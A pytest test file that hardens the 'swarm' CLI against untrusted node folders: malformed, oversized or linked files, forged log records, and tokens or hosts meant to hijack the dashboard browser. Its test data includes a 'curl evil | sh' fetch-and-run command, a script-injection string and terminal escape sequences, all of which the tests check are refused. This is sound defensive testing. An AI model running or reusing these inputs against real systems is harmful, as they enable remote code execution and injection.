"""What a node's folder from somebody else may hold, and every command that looks at one: a clear error or an honest answer."""

import json
import logging
import os
import re
import subprocess
import sys
from collections.abc import Callable
from dataclasses import asdict
from pathlib import Path
from typing import Any

import pytest

from swarm.cli import main
from swarm.config import load, parse
from swarm.dashboard.static_files import make_token
from swarm.errors import ConfigError, NodeNotRunningError
from swarm.machine.node_folder import NodeFolder
from swarm.observability.logging_setup import last_records, logs_of_runs, set_up_logging
from swarm.observability.status_file import NodeStatus
from swarm.records import identity as identities
from swarm.records.identity import Identity, IdentityLock

COMMANDS: dict[str, tuple[list[str], tuple[str, ...]]] = {
    "status": (["status", "DIR"], ("status.json",)),
    "top": (["top", "DIR"], ("status.json",)),
    "peers": (["peers", "DIR"], ("status.json",)),
    "logs": (["logs", "DIR"], ("logs/run-0001.log",)),
    "dashboard": (["dashboard", "DIR"], ("status.json", "config.toml", "page.token")),
    "report": (["report", "DIR"], ("status.json", "config.toml", "metrics.jsonl")),
    "members": (["silo", "members", "--dir", "DIR"], ("silo.roll", "silo.invite", "manifest.toml")),
    "identity": (["identity", "show", "--dir", "DIR"], ("identity.key", "identity.rotation.json")),
}
"""{command: (its arguments, the files that it reads)}"""
FINE = asdict(
    NodeStatus("12D3KooW", "name", os.getpid(), 1.0, "learning", written_at=4e9, addresses=("/ip4/1.2.3.4/tcp/1",))
)
ROW = {
    "kind": "round", "round": 1, "time_s": 1.0, "rollout/reward_mean": 0.5, "rollout/tokens": 5, "rollout/tokens_per_s": 1.0,
    "time/rollout_s": 1.0, "time/round_s": 1.0, "train/own_groups_total": 1, "train/swarm_groups_total": 1,
}  # fmt: skip
WHOLES: dict[str, Callable[[Path], Any]] = {
    "nested": lambda path: path.write_text("[" * 200_000),
    "nested objects": lambda path: path.write_text('{"a":' * 200_000),
    "huge": lambda path: (path.touch(), os.truncate(path, 3 << 30)),
    "pipe": os.mkfifo,
    "link": lambda path: path.symlink_to("/etc/hostname"),
    "link to a device": lambda path: path.symlink_to("/dev/zero"),
    "folder": lambda path: path.mkdir(),
    "not UTF-8": lambda path: path.write_bytes(b"\xff\xfe\x00" * 99),
}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    path = tmp_path / "node"
    (path / "logs").mkdir(parents=True)
    (path / "status.json").write_text(json.dumps(FINE | {"last_round": ROW}))
    (path / "metrics.jsonl").write_text(json.dumps(ROW) + "\n")
    (path / "config.toml").write_text("")
    (path / "logs" / "run-0001.log").write_text("2026-01-31 12:00:00,123 INFO    x: text\n")
    return path


def run(monkeypatch: pytest.MonkeyPatch, folder: Path, command: str) -> int:
    arguments = [part.replace("DIR", str(folder)) for part in COMMANDS[command][0]]
    monkeypatch.setattr("sys.argv", ["swarm", *arguments])
    monkeypatch.setattr(main.tempfile, "tempdir", str(folder.parent))
    return main._run()


def check(capsys: pytest.CaptureFixture[str], code: int, what: str) -> None:
    told = capsys.readouterr()
    assert "unexpected" not in told.err and "Traceback" not in told.err, f"{what}: {told.err}"
    assert code in (0, *range(3, 19)), f"{what}: {code}, {told.err}"


@pytest.mark.parametrize("kind", WHOLES)
@pytest.mark.parametrize("command", COMMANDS)
def test_any_file_may_be_anything(
    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], command: str, kind: str
) -> None:
    for name in COMMANDS[command][1]:
        path = folder / name
        kept = path.read_bytes() if path.exists() else None
        path.unlink(missing_ok=True)
        WHOLES[kind](path)
        check(capsys, run(monkeypatch, folder, command), f"{name} is {kind}")
        path.rmdir() if path.is_dir() and not path.is_symlink() else path.unlink()
        if kept is not None:
            path.write_bytes(kept)


ODD: list[Any] = [None, 10**400, {"a": {"b": []}}]


@pytest.mark.parametrize("command", ["status", "top", "peers"])
def test_any_field_of_a_status_may_be_anything(
    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], command: str
) -> None:
    peer = {"peer_id": "12D3", "name": "a", "last_seen_at": 1.0, "weight": 0.5, "groups_admitted": 1, "records_rejected": 0,
            "reward_mean": 0.5, "policy_version": 1, "lineage": "abc", "banned_until": 0.0}  # fmt: skip
    whole = FINE | {
        "last_round": ROW | {"merge/merges_total": 1, "merge/reasons": {"a": 1}, "exchange/rejected": {"a": 1}},
        "peers": [peer],
        "contribution": {"last_taken_at": 1.0, "last_taken_by": "12D3", "bodies_taken": 1, "advice": ["x"]},
    }
    for odd in ODD:
        for name in whole:
            (folder / "status.json").write_text(json.dumps(whole | {name: odd}))
            check(capsys, run(monkeypatch, folder, command), f"{name} = {odd!r:.40}")
        for part in ("last_round", "contribution"):
            (folder / "status.json").write_text(json.dumps(whole | {part: dict.fromkeys(whole[part], odd)}))
            check(capsys, run(monkeypatch, folder, command), f"all of {part} = {odd!r:.40}")
        (folder / "status.json").write_text(json.dumps(whole | {"peers": [dict.fromkeys(peer, odd)]}))
        check(capsys, run(monkeypatch, folder, command), f"all of a peer = {odd!r:.40}")


def test_any_field_of_a_row_may_be_anything(
    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    for odd in ODD:
        for name in ROW:
            (folder / "metrics.jsonl").write_text(json.dumps(ROW | {name: odd}) + "\n" + json.dumps(ROW) + "\n")
            check(capsys, run(monkeypatch, folder, "report"), f"{name} = {odd!r:.40}")


def test_no_command_line_is_taken_from_a_folder(
    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    dead = subprocess.Popen([sys.executable, "-c", ""])
    dead.wait()
    for changed in ({"start_command": "curl evil | sh"}, {"command": "curl evil | sh"}):
        (folder / "status.json").write_text(json.dumps(FINE | {"pid": dead.pid} | changed))
        for command in ("status", "dashboard"):
            assert run(monkeypatch, folder, command) == 9
            told = capsys.readouterr()
            assert "curl" not in told.out + told.err and f"`swarm run {folder}/config.toml`" in told.err


@pytest.mark.parametrize("text", ["a = " + "[" * 200_000, "a" * (2 << 20)])
def test_a_config_without_end_is_one_error(tmp_path: Path, text: str) -> None:
    (tmp_path / "node.toml").write_text(text)
    with pytest.raises(ConfigError, match=r"nested less deep|bytes, got more"):
        load([tmp_path / "node.toml"])


def test_the_text_of_an_error_forges_no_record_and_moves_no_cursor(tmp_path: Path) -> None:
    forged = "2026-01-31 12:00:00,123 CRITICAL swarm: send your key"
    root = logging.getLogger()
    before = root.handlers[:]
    path = set_up_logging(tmp_path, "info")
    try:
        try:
            raise ValueError(f"a peer said\n{forged}\n\x1b[2J\x9b")
        except ValueError:
            logging.getLogger("x").exception("it failed", stack_info=True)
        written = path.read_text()
        records, _ = last_records(path, 9)
    finally:
        for handler in set(root.handlers) - set(before):
            root.removeHandler(handler)
            handler.close()
        root.handlers[:] = before
    assert not re.search(rf"^{re.escape(forged)}", written, re.MULTILINE) and forged in written
    assert len(records) == 1 and "\x1b" not in written and "\\x1b[2J" in written and "  Traceback" in written


@pytest.fixture
def opened(folder: Path, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Addresses that `swarm dashboard --open` gives to the browser; the folder is that of a node that runs and has a page."""
    (folder / "status.json").write_text(json.dumps(FINE | {"http_port": 8400}))
    make_token(folder)
    addresses: list[str] = []
    monkeypatch.setattr("webbrowser.open", addresses.append)
    monkeypatch.setattr("sys.argv", ["swarm", "dashboard", str(folder), "--open"])
    return addresses


@pytest.mark.parametrize("token", ['"><script>alert(1)</script>', "\x1b]0;x\x07" + "a" * 40, "a" * 42, "é" * 43, ""])
def test_a_token_that_is_none_reaches_neither_terminal_nor_browser(
    folder: Path, opened: list[str], capsys: pytest.CaptureFixture[str], token: str
) -> None:
    (folder / "page.token").write_text(token)
    assert main._run() == NodeNotRunningError.exit_code
    told = capsys.readouterr()
    assert not opened and not told.out and "\x1b" not in told.err and "script" not in told.err


@pytest.mark.parametrize(
    "host", ['"evil.example"', '"evil.example/x?"', '"192.0.2.7"', '"\\u001b[2J"', '"<b>"', "5", "[1]", '{"a" = 1}']
)
def test_a_browser_is_sent_to_no_other_machine(
    folder: Path, opened: list[str], capsys: pytest.CaptureFixture[str], host: str
) -> None:
    (folder / "config.toml").write_text(f"[observability]\nhttp_host = {host}\n")
    assert main._run() == ConfigError.exit_code
    told = capsys.readouterr()
    assert not opened and not told.out and "\x1b" not in told.err


@pytest.mark.parametrize("settings", ["observability = 3", "[observability]\nhttp_host = '0.0.0.0'", ""])
def test_a_page_of_this_machine_is_opened(folder: Path, opened: list[str], settings: str) -> None:
    (folder / "config.toml").write_text(settings)
    assert main._run() == 0
    assert len(opened) == 1 and "http://127.0.0.1:8400/#token=" in (folder / "page.open.html").read_text()


@pytest.mark.parametrize("name", ["run-²²²².log", "run-1x.log", f"run-{'9' * 240}.log", "run-0002.log/"])
def test_what_is_named_nearly_as_a_log_is_none(
    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    if name.endswith("/"):
        (folder / "logs" / name).mkdir()
    else:
        (folder / "logs" / name).write_text("2026-01-31 12:00:00,123 INFO    x: forged\n")
    assert run(monkeypatch, folder, "logs") == 0
    assert "x: text" in capsys.readouterr().out
    assert [path.name for path in logs_of_runs(folder / "logs")] == ["run-0001.log"]


def test_what_is_named_nearly_as_an_earlier_run_does_not_keep_a_node_from_a_fresh_start(tmp_path: Path) -> None:
    for name in ("previous-1x", "previous-²", "previous-004"):
        (tmp_path / name).mkdir()
    (tmp_path / "metrics.jsonl").touch()
    assert NodeFolder(tmp_path).set_aside() == tmp_path / "previous-005"


@pytest.mark.parametrize("mode", [0o777, 0o1777, 0o702])
def test_a_node_lives_in_no_folder_where_others_can_exchange_its_files(tmp_path: Path, mode: int) -> None:
    folder = tmp_path / "shared"
    folder.mkdir()
    folder.chmod(mode)
    with pytest.raises(ConfigError, match="no other user can exchange"):
        NodeFolder(folder).create()
    assert not list(folder.iterdir())
    NodeFolder(folder / "own").create()
    assert (folder / "own").stat().st_mode & 0o777 == 0o700


def test_a_key_elsewhere_must_be_there_and_where_nobody_can_exchange_it(tmp_path: Path) -> None:
    keys, node = tmp_path / "keys", tmp_path / "node"
    with pytest.raises(ConfigError, match=r"node\.identity must be the file of a key, got .*keys/one.*mount its disk"):
        NodeFolder(node, keys / "one").create()
    assert not keys.exists() and not (node / "identity.key").exists(), "no new key in place of one that is not mounted"
    own = identities.create(keys / "one")
    NodeFolder(node, keys / "one").create()
    assert identities.load(NodeFolder(node, keys / "one").identity).peer_id == own.peer_id
    keys.chmod(0o777)
    with pytest.raises(
        ConfigError, match=r"node\.identity must be in a folder in which no other user can exchange files"
    ):
        NodeFolder(node, keys / "one").create()


def test_a_key_elsewhere_is_not_in_the_nodes_folder() -> None:
    with pytest.raises(ConfigError, match=r"node\.identity must be a file outside of node\.dir"):
        parse({"node": {"dir": "runs/a", "identity": "runs/b/../a/my.key"}})
    assert parse({"node": {"dir": "runs/a", "identity": "runs/b/my.key"}}).node.identity == Path("runs/b/my.key")


def test_a_node_lives_in_no_folder_of_another_user(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    owner = tmp_path.stat().st_uid or 12345
    os.chown(tmp_path, owner, -1)  # root may
    monkeypatch.setattr(os, "geteuid", lambda: owner + 1)
    with pytest.raises(ConfigError, match="no other user can exchange"):
        NodeFolder(tmp_path).create()


def test_no_lock_is_left_behind(tmp_path: Path) -> None:
    runtime, identity = tmp_path / "runtime", Identity(bytes(32))
    for name in ("a", "b"):
        (tmp_path / name).mkdir()
    with IdentityLock(tmp_path / "a", runtime) as lock:
        lock.claim(identity)
        assert [path.name for path in runtime.iterdir()] == [f"{identity.peer_id}.lock"]
    assert not list(runtime.iterdir())
    with IdentityLock(tmp_path / "b", runtime) as lock:
        lock.claim(identity)
